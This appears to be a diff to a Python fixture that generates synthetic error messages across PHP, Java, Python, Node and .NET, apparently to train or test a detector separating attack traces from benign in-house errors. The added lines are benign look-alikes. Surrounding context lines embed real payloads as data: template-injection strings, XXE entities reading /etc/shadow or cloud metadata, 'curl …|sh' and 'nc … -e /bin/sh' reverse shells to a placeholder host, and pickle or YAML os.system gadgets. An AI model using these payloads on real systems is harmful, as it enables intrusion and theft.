@@ -10,6 +10,12 @@ from .table import Scenario, table
 
 _TEXT = r"""
 @@ php
+# inhouse php statements and files of its own
+PDOException ;; SQLSTATE[21000]: Cardinality violation: 1222 The used SELECT statements have a different number of columns: SELECT id, name FROM «word»s UNION SELECT id FROM «word»s_old WHERE 1=1 OR deleted = 0
+mysqli_sql_exception ;; «Query execution was interrupted: SELECT SLEEP(1) FROM health|You have an error in your SQL syntax near 'UNION ALL SELECT * FROM «word»s_«year»' at line «num:2:40»|Unknown column 'password' in 'field list': UPDATE users SET password = ? WHERE id = ?»
+Warning ;; «include|require_once»(«/etc/«site»/config.php|/etc/«word»/passwd.php|../../vendor/autoload.php|../../../shared/«word».php»): Failed to open stream: «Permission denied|No such file or directory»
+Warning ;; file_get_contents(«/etc/hostname|php://input|/proc/loadavg|http://127.0.0.1:9000/status|../../VERSION»): Failed to open stream: «Permission denied|HTTP request failed!|operation failed»
+Twig\Error\SyntaxError ;; Unknown "«exec|map|filter_«word»»" filter in "admin/«word».html.twig" at line «num:1:90»
 # inhouse php troubles with data
 PDOException ;; SQLSTATE[23000]: Integrity constraint violation: 1062 Duplicate entry '«first».«last»@«domain»' for key 'users.email'
 PDOException ;; SQLSTATE[42000]: Syntax error or access violation: 1064 You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near '«Brien' ORDER BY last_name|Neill', 'Dublin')|s Garage' LIMIT 20|) AND status = 1|order WHERE id = «num:1:999»|LIMIT -20, 20» at line «num:1:4»
@@ -34,6 +40,12 @@ ImagickException ;; «unable to open image '«num:1:9».jpg¦«id|curl http://«
 Twig\Error\SyntaxError ;; «Unexpected token in "{{ ['id']¦filter('system') }}" at line 1|Unknown "«system|exec|passthru»" filter in "__string_template__«hex:16»": {{'«id|whoami»'¦system}}|Unexpected character in {{7*7}}{{_self.env.registerUndefinedFilterCallback('exec')}}»
 DOMException ;; «DOMDocument::loadXML(): failed to load external entity "file:///etc/«passwd|hostname|shadow»"|DOMDocument::loadXML(): Entity 'xxe' failed to parse: <!ENTITY xxe SYSTEM "«file:///c:/windows/win.ini|http://«pub»/«letters:3».dtd|php://filter/read=convert.base64-encode/resource=index.php»">|simplexml_load_string(): I/O warning : failed to load external entity "http://«pub»:«port»/x.dtd"»
 @@ java
+# inhouse java statements and files of its own
+java.sql.SQLSyntaxErrorException ;; «ERROR: each UNION query must have the same number of columns Position: «num:20:900»|ORA-01789: query block has incorrect number of result columns: SELECT id FROM «word»s UNION SELECT id, name FROM «word»s_old|You have an error in your SQL syntax near 'SELECT user FROM dual' at line «num:2:30»»
+java.io.FileNotFoundException ;; «/etc/«site»/«word».properties (Permission denied)|/etc/ssl/certs/«word».pem (No such file or directory)|../../conf/«word».xml (No such file or directory)»
+javax.naming.NameNotFoundException ;; «lookup failed for java:comp/env/jdbc/«word»|ldap://«server».«ad»:636/DC=«site» - lookup failed|rmi://«linux2»:1099/«word» not bound»
+org.springframework.expression.spel.SpelEvaluationException ;; «EL1005E: Type cannot be found 'java.time.LocalDate«word»' in T(java.time.LocalDate).now()|EL1004E: Method call: Method exec() cannot be found on type «site».jobs.«Word»Runner»
+freemarker.core.InvalidReferenceException ;; The following has evaluated to null or missing: ==> "«site».util.«Word»"?new() [in template "admin/«word».ftl" at line «num:1:90»]
 # inhouse java troubles with data
 org.springframework.jdbc.BadSqlGrammarException ;; PreparedStatementCallback; bad SQL grammar [SELECT id, name FROM «word»s WHERE «word»_id = ? ORDER BY created]; nested exception is java.sql.SQLSyntaxErrorException: «Unknown column '«word»_id' in 'where clause'|ORA-00942: table or view does not exist|Table '«site».«word»s' doesn't exist»
 java.sql.SQLSyntaxErrorException ;; «ORA-01756: quoted string not properly terminated near 'O'«Last»'|ORA-00933: SQL command not properly ended|ERROR: syntax error at or near "order" Position: «num:20:90»|You have an error in your SQL syntax near 'group = «num:1:9»' at line 1»
@@ -59,6 +71,13 @@ java.io.InvalidClassException ;; filter status: REJECTED: class «org.apache.com
 org.xml.sax.SAXParseException ;; «External entity: failed to read external document 'passwd', because 'file' access is not allowed: file:///etc/passwd|lineNumber: 1; The entity "xxe" was referenced: <!ENTITY xxe SYSTEM "«file:///etc/shadow|http://«imds»/latest/meta-data/|http://«pub»/«letters:3».dtd»">|JAXP00010001: The parser has encountered more than "64000" entity expansions: &lol9;|DOCTYPE is disallowed when the feature "disallow-doctype-decl" set to true: <!DOCTYPE x [<!ENTITY % p SYSTEM "ftp://«pub»/">»
 freemarker.core.InvalidReferenceException ;; The following has evaluated to null or missing: ==> "freemarker.template.utility.Execute"?new()("«id|whoami|curl «pub»»") [in template "inline" at line 1]
 @@ python
+# inhouse python statements and commands of its own
+psycopg2.errors.SyntaxError ;; «each UNION query must have the same number of columns LINE «num:2:9»: UNION SELECT id FROM «word»s|syntax error at or near "SELECT" LINE «num:2:9»: WHERE 1=1 AND SELECT id|syntax error at or near ";" LINE 3: DROP TABLE IF EXISTS tmp_«word»; in migration 00«num:10:99»»
+subprocess.CalledProcessError ;; Command '«ping -c 1 «ip2»|curl -sf http://«ip2»:«num:3000:9000»/health|id -u «svc»|whoami|git clone git@«linux2»:«word»/«word».git|sh -c "cat /etc/os-release"|nslookup «server».«ad»»' returned non-zero exit status «1|2|7|128»
+FileNotFoundError ;; [Errno 2] No such file or directory: '«/etc/«site»/«word».toml|../../.env|/proc/1/cgroup|/app/../shared/settings.py|~/.ssh/config»'
+jinja2.exceptions.UndefinedError ;; «'config' is undefined in {{ config.«WORD» }}|'self' has no attribute '«word»' in {{ self.«word»() }}|'os' is undefined in ansible template «word».j2»
+yaml.constructor.ConstructorError ;; could not determine a constructor for the tag 'tag:yaml.org,2002:python/«tuple|object:«site».«word».«Word»»' in "fixtures/«word».yml", line «num:1:90»
+_pickle.UnpicklingError ;; global '«site».«word».«Word»' is not found, class was moved in release «num:1:9».«num:0:20»
 # inhouse python troubles with data
 psycopg2.errors.SyntaxError ;; «syntax error at or near "«order|user|group|'s»" LINE 1: SELECT * FROM «word»s WHERE name = 'O'«Last»'|syntax error at or near ")" LINE «num:1:4»: WHERE id IN ()|unterminated quoted string at or near "'D'«Last»"»
 sqlalchemy.exc.ProgrammingError ;; (psycopg2.errors.UndefinedColumn) column «word»s.«word» does not exist [SQL: SELECT «word»s.id FROM «word»s WHERE «word»s.id = %(id_1)s] [parameters: {'id_1': «num:1:9999»}]
@@ -83,6 +102,11 @@ _pickle.UnpicklingError ;; «global '«posix.system|os.system|builtins.eval|subp
 yaml.constructor.ConstructorError ;; could not determine a constructor for the tag 'tag:yaml.org,2002:python/object/«apply:os.system|apply:subprocess.check_output|new:exec» in "<unicode string>", line 1
 subprocess.CalledProcessError ;; Command '«convert x.png;«id|curl http://«pub»/a¦sh» -resize 200x200|pdftotext $(wget «pub»/«letters:3») -|ping -c 1 127.0.0.1 && cat /etc/passwd|git clone --upload-pack=touch${IFS}/tmp/«letters:4»|nslookup `whoami`.«domain»»' returned non-zero exit status «1|2|127»
 @@ node
+# inhouse node commands and modules of its own
+Error ;; «Command failed: «curl -s http://«ip2»:9200/_cluster/health|sh -c "npm run build"|id -u node|cat /app/VERSION» exit code «1|7|127»|Cannot find module '«../«word»|child_process|./«word».js»' in bundle of «word»|ENOENT: no such file or directory, open '«/etc/«site»/«word».json|../../.env|/app/../shared/«word».json»'»
+ValidationError ;; «"__v" is not allowed: {"__v":«num:0:9»}|"constructor" must be a string in form of building firm|"password" must be a string, got null|"url" must be internal: https://«domain»/»
+SequelizeDatabaseError ;; «each UNION query must have the same number of columns|syntax error at or near "SELECT" in migration «num:1:90»-«word».js|canceling statement due to timeout: SELECT pg_sleep(1) in health check»
+CastError ;; Cast to «string|Number|date» failed for value "{ '«$gte|$in|$exists»': «[]|''|true» }" (type Object) at path "«created|status|amount»" for model "«Word»"
 # inhouse node troubles with data
 SequelizeDatabaseError ;; «column "«word»" does not exist|invalid input syntax for type uuid: "«undefined|null|new|«num:1:9999»»"|syntax error at or near "s" in WHERE name = 'Nick's'|relation "«word»s" does not exist»
 SyntaxError ;; «Unexpected token < in JSON at position 0: "<html><head><title>502"|Unexpected end of JSON input|Unexpected token u in JSON: "undefined"|Bad control character in string literal in JSON at position «num:1:900»»
@@ -103,6 +127,12 @@ ReferenceError ;; «ejs:1 >> 1¦ <%= global.process.mainModule.require('child_pr
 Error ;; «Command failed: «gm convert|ffmpeg -i|libreoffice --headless --convert-to pdf» '/tmp/x.png';«curl http://«pub»/«letters:3»¦sh|id;#|nc «pub» «port» -e /bin/sh» exit code 1|Cannot find module 'child_process' in vm sandbox: _$$ND_FUNC$$_function(){require('child_process').exec('«id|ls /»')}()|request to http://««imds»|127.0.0.1:2375|localhost:6379»/«latest/meta-data/iam/security-credentials/|containers/json|» failed, reason: blocked»
 TypeError ;; Cannot read properties of undefined (reading 'constructor') in «7*7.constructor.constructor('return this')()|[].filter.constructor('return process.env')()|require('fs').readFileSync('/etc/passwd')»
 @@ dotnet
+# inhouse dotnet statements and types of its own
+System.Data.SqlClient.SqlException ;; «All queries combined using a UNION, INTERSECT or EXCEPT operator must have an equal number of expressions in their target lists.|Incorrect syntax near 'SELECT'. in ;WITH «word» AS (SELECT Id FROM «Word»s WHERE 1=1 OR Active = 1) SELECT|The EXECUTE permission was denied on the object 'xp_fixeddrives'. in EXEC xp_fixeddrives|Conversion failed when converting the varchar value '«word»' to data type int.»
+System.IO.FileNotFoundException ;; Could not find file '«C:\inetpub\«word»\web.config|C:\Windows\System32\drivers\etc\hosts.bak|..\..\shared\«word».json|\\«server»\«dept»\«file»»'.
+System.Runtime.Serialization.SerializationException ;; «Type 'System.Diagnostics.Process' in Assembly 'System' is not marked as serializable. in cache of «word»|Type '«Word».Legacy.«Word»' is not allowed, add it to the binder of release «num:1:9».«num:0:20»|Unable to load type «Word».Contracts.«Word» required for deserialization»
+System.Xml.XmlException ;; For security reasons DTD is prohibited in this XML document: <!DOCTYPE «html|cXML SYSTEM "http://xml.cxml.org/schemas/cXML/1.2.0«num:10:50»/cXML.dtd"|plist PUBLIC "-//Apple//DTD PLIST 1.0//EN"»>
+System.Web.HttpRequestValidationException ;; A potentially dangerous Request.«QueryString|Form» value was detected from the client («q|code|text»="«a < b && b > c|<script src="https://www.«known»/tag.js">|<iframe width="560">|5 <6 kg»").
 # inhouse dotnet troubles with data
 System.Data.SqlClient.SqlException ;; «Incorrect syntax near '«s|)|,|order»'. in SELECT * FROM «Word»s WHERE Name = 'O'«Last»'|Unclosed quotation mark after the character string '«Last»s'.|Violation of UNIQUE KEY constraint 'UQ_«Word»'. The duplicate key value is («first»@«domain»).|Invalid column name '«Word»Id'.|Transaction (Process ID «num:50:300») was deadlocked on lock resources»
 System.IO.FileNotFoundException ;; Could not find file '«C:\inetpub\«word»\App_Data\«word».xml|D:\Shares\«dept»\«file»|C:\Windows\Temp\«token:8».tmp»'.
